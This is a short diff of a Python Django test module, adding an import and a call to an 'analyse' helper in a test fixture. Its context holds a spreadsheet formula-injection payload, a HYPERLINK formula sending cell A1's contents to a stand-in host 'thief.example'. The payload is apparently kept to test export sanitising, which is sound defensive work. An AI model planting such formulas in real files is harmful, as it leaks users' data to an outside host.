@@ -22,6 +22,7 @@ from tests.cases import building
 from tests.cases.measuring import make_indicator, make_metric, reading, send
 from tests.cases.standing_behind import put_before_a_decision, sign
 from tests.cases.watching import make_condition
+from tests.conftest import analyse
 from tests.factories import PASSWORD, make_control, make_evidence, make_risk, make_system
 
 FORMULA = '=HYPERLINK("https://thief.example/?"&A1,"@open")'
@@ -130,6 +131,7 @@ def world(django_db_setup, django_db_blocker, tmp_path_factory) -> Iterator[Worl
         world = World(media)
         for organisation in (world.acme, world.globex):
             complete(Troupe(world, organisation))
+        analyse()
         yield world
         transaction.set_rollback(True)
 
